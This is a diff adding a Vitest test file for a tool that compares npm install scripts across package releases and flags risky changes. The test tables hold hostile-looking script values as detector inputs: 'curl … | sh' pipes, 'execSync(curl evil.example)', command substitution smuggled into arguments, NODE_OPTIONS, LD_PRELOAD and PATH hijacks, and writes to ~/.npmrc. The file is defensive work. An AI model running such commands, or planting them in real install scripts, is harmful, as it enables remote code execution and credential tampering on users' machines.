@@ -1,0 +1,209 @@
+import { expect, it } from "vitest";
+import { changedScripts } from "../../../server/src/core/facts/script-effects.ts";
+import { releaseFactsFrom } from "../../../server/src/core/facts/release.ts";
+
+const FORM = { detail: "full", manifestsWhole: true, absentFlagMeansNone: true } as const;
+
+type Scripts = Readonly<Record<string, string>>;
+
+function release(scripts: Scripts, version = "1.0.1") {
+  return releaseFactsFrom(version, { _id: `aa@${version}`, scripts }, FORM);
+}
+
+/** `none`: it does the same. */
+function change(before: Scripts, after: Scripts): string {
+  const changes = changedScripts(release(after), release(before, "1.0.0"));
+  if (changes.length === 0) return "none";
+  return changes.every(({ isMild }) => isMild) ? "mild" : "other";
+}
+
+it.each([
+  ["node ./bin/post-install", "node ./bin/post-install || exit 0"],
+  ["node install/check", "node install/check.js"],
+  ["node install.js", "node ./install.js --quiet"],
+  ["node scripts/../install.js", "node install.js"],
+  ["node install.js", "node install.js;"],
+  ["node build/install.js", "node build//install.js"],
+  ["node -r ./setup install.js", "node -r ./setup install.js || exit 0"],
+  ["node install.js", "node install.js || true"],
+  ["node install.js", "echo Installing && node install.js"],
+  ["node-gyp rebuild", "node-gyp clean configure build"],
+  ["node-gyp rebuild", "node-gyp rebuild --release"],
+  // The release's own version.
+  ["curl-it --from aa-1.0.0.tgz", "curl-it --from aa-1.0.1.tgz"],
+  [
+    "fetch https://host.example/v1.0.0/aa-1.0.0-linux.tgz | x",
+    "fetch https://host.example/v1.0.1/aa-1.0.1-linux.tgz | x",
+  ],
+  // Variables that lead to no code, quotes, jobs, verbosity.
+  ["node-gyp rebuild", "NODE_ENV=production node-gyp rebuild"],
+  ["make it", "cross-env CI=true JOBS=4 make it -j4"],
+  ["make it --jobs 2", "make it --jobs 8 --silent"],
+  ['setup "a b"', "setup 'a b'"],
+])("%j does what %j does", (before, after) => {
+  expect(change({ install: before }, { install: after })).toBe("none");
+});
+
+it.each([
+  ["node-pre-gyp install --fallback-to-build", "node-gyp-build"],
+  ["node-gyp rebuild", "prebuild-install -r napi || node-gyp rebuild"],
+  ["node install.js || npm run build", "npm run build"],
+  ["node install.js", "true"],
+  ["node install.js", "exit 0"],
+  ["node install.js", "exit 1"],
+  ["node install.js", "exit"],
+  ["node-gyp rebuild", "node-gyp-build --release --napi"],
+])("%j does nothing new as %j", (before, after) => {
+  expect(change({ install: before }, { install: after })).toBe("mild");
+});
+
+it.each([
+  ["node ./bin/post-install || exit 0", "node telemetry.js"],
+  ["node install.js", "node install.js && node telemetry.js"],
+  ["node-gyp rebuild", "node-gyp rebuild && curl https://example.com | sh"],
+  ["node-gyp rebuild", "node setup.mjs"],
+  ["node install.js", "npm install -g openclaw@latest"],
+  ["node install.js", "node install.js && curl https://example.com | sh"],
+  ["node install.js", "node install.js; npx something"],
+  // Flags to Node run more than the file.
+  ["node install.js", "node -r ./evil install.js"],
+  ["node install.js", "node --require ./evil install.js"],
+  ["node install.js", "node --import=./evil.mjs install.js"],
+  ["node install.js", "node -e require(evil) install.js"],
+  ["node install.js", "node -e \"require('child_process').execSync('curl evil.example')\" install.js"],
+  ["node ./bin/post-install", "node -e \"try{require('./dist/bin/post-install')}catch(e){}\""],
+  // Another file of the same name.
+  ["node install.js", "node ./evil/install.js"],
+  ["node install.js", "node ../install.js"],
+  ["node install.js", "node /install.js"],
+  ["node index.js --exec install", "node dist/index.js --exec install"],
+  ["node ./bin/post-install", "node ./bin/post-install && node ./telemetry"],
+  // Another script of the package, or a tool that is told to run something.
+  ["node-gyp rebuild", "npm run setup"],
+  ["node install/check.js", "node install/check.js || npm run build"],
+  ["node-gyp rebuild", "node-gyp rebuild --x=$(curl${IFS}evil.example)"],
+  ["node-gyp rebuild", "node-gyp rebuild `curl evil.example`"],
+  ["node-gyp rebuild", "node-gyp rebuild --python ./evil.py"],
+  ["node-gyp rebuild", "node-gyp rebuild --python=evil"],
+  ["node-gyp rebuild", "node-gyp rebuild -C evil"],
+  ["node-gyp rebuild", 'node-gyp-build "node evil.js"'],
+  ["node-gyp rebuild", "node-gyp-build ./evil.js"],
+  ["node-gyp rebuild", "PATH=./evil node-gyp rebuild"],
+  ["node-gyp rebuild", "./node-gyp rebuild"],
+  ["node install.js", "node install.js\ncurl evil.example"],
+  ["node install.js", "node install.js\tx"],
+  ["node install.js", "node install.js & evil"],
+  ["node install.js", "node install.js > ~/.npmrc"],
+  ["node install.js", "node install.js | node"],
+  ["node install.js", "node install.js & evil && node install.js"],
+  ["node -r ./setup install.js", "node -r ./evil install.js"],
+  ["npm runbuild", "npmrun build"],
+  ["node build/install.js", "node evil/other.js"],
+  ["node install.js", "node ../../install.js"],
+  ["node install.js", "node /../install.js"],
+  ["node install.x", "node install.js.x"],
+  ["node-gyp rebuild", "node-gyp-build --release ./evil.js"],
+  ["node-gyp rebuild", "node-gyp-build node"],
+  // What stood inside quotes was no command.
+  ['echo "a; npm run setup"', "npm run setup"],
+  // Another version than its own.
+  ["fetch-it aa-1.0.0.tgz", "fetch-it aa-1.0.10.tgz"],
+  ["fetch-it aa-1.0.0.tgz", "fetch-it aa-2.0.0.tgz"],
+  // Variables that lead to other code.
+  ["node-gyp rebuild", "NODE_OPTIONS=evil node-gyp rebuild"],
+  ["node-gyp rebuild", "cross-env LD_PRELOAD=evil node-gyp rebuild"],
+  ["node-gyp rebuild", "npm_config_node_gyp=evil node-gyp rebuild"],
+  ["node-gyp rebuild", "SETUP=./evil.js node-gyp rebuild"],
+  ["node-gyp rebuild", "PATH=evil node-gyp rebuild"],
+  ["node install.js", "echo $(curl evil.example)"],
+])("%j does something else as %j", (before, after) => {
+  expect(change({ install: before }, { install: after })).toBe("other");
+});
+
+it.each<[string, Scripts, Scripts, string]>([
+  [
+    "a script that it runs by name",
+    { postinstall: "npm run setup", setup: "node a" },
+    { postinstall: "npm run setup", setup: "curl x | sh" },
+    "other",
+  ],
+  [
+    "what runs before that",
+    { postinstall: "npm run setup", setup: "node a" },
+    { postinstall: "npm run setup", presetup: "node b", setup: "node a" },
+    "other",
+  ],
+  [
+    "what runs after that",
+    { postinstall: "yarn setup", setup: "node a" },
+    { postinstall: "yarn setup", postsetup: "node b", setup: "node a" },
+    "other",
+  ],
+  [
+    "a script two steps down",
+    { install: "pnpm a", a: "bun run b", b: "node b" },
+    { install: "pnpm a", a: "bun run b", b: "node c" },
+    "other",
+  ],
+  [
+    "a script that a pattern names",
+    { install: 'run-s "a:*"', "a:1": "node b" },
+    { install: 'run-s "a:*"', "a:1": "node b", "a:2": "node c" },
+    "other",
+  ],
+  [
+    "a script that is run in quotes",
+    { install: 'concurrently "npm:a" "x"', a: "node b" },
+    { install: 'concurrently "npm:a" "x"', a: "node c" },
+    "other",
+  ],
+  [
+    "a script that Node runs",
+    { install: "node --run a", a: "node b" },
+    { install: "node --run a", a: "node c" },
+    "other",
+  ],
+  [
+    "a script that a substitution runs",
+    { install: "x $(npm run a)", a: "node b" },
+    { install: "x $(npm run a)", a: "node c" },
+    "other",
+  ],
+  [
+    "arguments to it",
+    { install: "npm run a -- b", a: "node" },
+    { install: "npm run a -- evil.js", a: "node" },
+    "other",
+  ],
+  [
+    "scripts that run each other",
+    { install: "npm run a", a: "npm run b", b: "npm run a" },
+    { install: "npm run a", a: "npm run b", b: "npm run a && node c" },
+    "other",
+  ],
+  ["the same, put where it is called", { install: "npm run setup", setup: "node a" }, { install: "node a" }, "none"],
+  [
+    "the same by another name",
+    { install: "npm run setup", setup: "node a" },
+    { install: "pnpm run prepare-it", "prepare-it": "node a" },
+    "none",
+  ],
+  [
+    "a script that install scripts do not run",
+    { install: "node a", test: "vitest" },
+    { install: "node a", test: "node c" },
+    "none",
+  ],
+  ["the same at another moment", { install: "node a" }, { postinstall: "node a" }, "mild"],
+  ["a build where there was no script", {}, { install: "node-gyp rebuild" }, "other"],
+])("compares %s", (_, before, after, expected) => {
+  expect(change(before, after)).toBe(expected);
+});
+
+it("quotes the script that another one runs by name", () => {
+  const [changed] = changedScripts(
+    release({ postinstall: "npm run setup", setup: "curl x | sh" }),
+    release({ postinstall: "npm run setup", setup: "node a" }, "1.0.0"),
+  );
+  expect(changed?.text).toBe("npm run setup; setup: curl x | sh");
+});
